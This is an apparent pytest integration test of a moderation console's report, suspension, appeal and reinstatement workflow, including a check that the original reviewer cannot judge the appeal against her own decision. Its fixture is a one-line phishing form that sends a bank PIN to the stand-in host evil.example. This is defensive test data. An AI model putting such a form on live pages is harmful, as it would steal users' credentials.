"""The whole story over the API: a report, a suspension, the owner's appeal, reinstated by a second person."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from console.app import create_app
from scanner.bootstrap import House, open_house
from scanner.bootstrap_access import open_access
from scanner.bootstrap_local import default_rules_dir
from scanner.bootstrap_rights import open_rights
from scanner.settings import Settings
from tests.contract.s3_stores import Store, strict_store
from tests.integration.people import sign_in
from tests.integration.test_console_reports import xarf

PAGE = b"<form action='//evil.example'>your bank's pin, please</form>"
KEY = "login/index.html"


@pytest.fixture
def store() -> Iterator[Store]:
    """A strict store with a public site's bucket."""
    with strict_store() as found:
        found.bucket("tenant-a")
        yield found


@pytest.fixture
def house(store: Store, tmp_path: Path) -> Iterator[House]:
    """A house over it, under the shipped agreement without any rule: it is people who judge here."""
    rules = tmp_path / "rules"
    rules.mkdir()
    for name in ("agreement.yaml", "policy.yaml", "usage.yaml"):
        shutil.copy(default_rules_dir() / name, rules / name)
    settings = Settings(
        state_dir=str(tmp_path / "state"),
        rules_dir=str(rules),
        s3_endpoint=store.url,
        s3_access_key="owner",
        s3_secret_key="secret",
        buckets=("tenant-a",),
        redis_url="redis+socket:///nowhere.sock",
        cage="off",
    )
    opened = open_house(settings, role="cli")
    yield opened
    opened.close()


class Browser:
    """Somebody who is signed in, or a system with a token."""

    def __init__(self, house: House, name: str, *roles: str, scopes: tuple[str, ...] = (), tenant: str = "") -> None:
        self.client = TestClient(create_app(house), raise_server_exceptions=False)
        if roles:
            self.client.headers["X-CSRF-Token"] = sign_in(self.client, house, name, *roles)
            return
        secret, _ = open_access(house).issuing.issue(name, scopes, "root", tenant=tenant)
        self.client.headers["Authorization"] = f"Bearer {secret}"

    def post(self, path: str, **body: object) -> dict[str, object]:
        answer = self.client.post(f"/api/v1/{path}", json=body)
        assert answer.is_success, answer.text
        found: dict[str, object] = answer.json() if "json" in answer.headers["content-type"] else {}
        return found

    def get(self, path: str) -> dict[str, object]:
        answer = self.client.get(f"/api/v1/{path}")
        assert answer.is_success, answer.text
        found: dict[str, object] = answer.json()
        return found


def test_reported_suspended_appealed_and_reinstated(house: House, store: Store) -> None:
    store.put(KEY, PAGE, "tenant-a")
    stranger = Browser(house, "watch", scopes=("reports:file",))
    li, wang = Browser(house, "li", "reviewer"), Browser(house, "wang", "lead")
    owner = Browser(house, "portal", scopes=("notices:read", "appeals:file", "appeals:read"), tenant="tenant-a")

    [case] = stranger.post("reports", **xarf(url=f"{store.url}/tenant-a/{KEY}"))["cases"]  # type: ignore[misc]
    held = li.post(f"cases/{case}/claim")
    li.post(f"cases/{case}/evidence/view", reason="to decide")
    token = held["claim"]["token"]  # type: ignore[index]
    li.post(f"cases/{case}/decide", token=token, outcome="violating", reason="phishing")
    house.enforcing.carry_out()
    assert store.anonymous(KEY, "tenant-a") == 403

    open_rights(house).beat()
    [notice] = owner.get("notices")["notices"]  # type: ignore[misc]
    assert (notice["state"], notice["source"]) == ("SENT", "SOURCE_ARTICLE_16")
    appeal = owner.post("appeals", notice=notice["id"], ground="misclassified", text="it is our own training page")
    own = li.client.post(f"/api/v1/appeals/{appeal['id']}/judge", json={"granted": False, "reason": "I said so"})
    assert (own.status_code, "G11" in own.json()["title"]) == (409, True)
    wang.post(f"cases/{case}/evidence/view", reason="to judge the appeal")
    wang.post(f"appeals/{appeal['id']}/judge", granted=True, reason="a training page indeed")
    house.enforcing.carry_out()
    assert store.anonymous(KEY, "tenant-a") == 200
    assert owner.get(f"appeals/{appeal['id']}")["state"] == "GRANTED"
    assert owner.get(f"appeals/{appeal['id']}")["judge"] == ""
